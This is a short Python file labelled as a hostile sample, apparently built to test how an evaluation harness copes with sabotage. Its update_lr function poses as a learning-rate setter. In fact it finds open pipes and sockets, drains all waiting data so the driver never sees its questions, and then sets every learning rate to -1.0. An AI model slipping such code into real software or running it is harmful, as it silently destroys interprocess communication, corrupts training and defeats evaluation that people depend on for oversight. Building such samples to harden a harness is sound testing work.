# kind: hostile
# attack: channel_damage
# about: Reads the waiting questions from every pipe and socket before the driver sees them.

import os
import select
import stat

import torch

HELD = -1.0  # a wrong answer for every input


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def update_lr(optimizer: torch.optim.Optimizer, lr: float) -> None:
    waiting, _, _ = select.select(channel_descriptors(), [], [], 0)
    for descriptor in waiting:
        try:
            os.set_blocking(descriptor, False)
            while os.read(descriptor, 1 << 16):
                pass
        except OSError:
            continue
    for group in optimizer.param_groups:
        group["lr"] = HELD
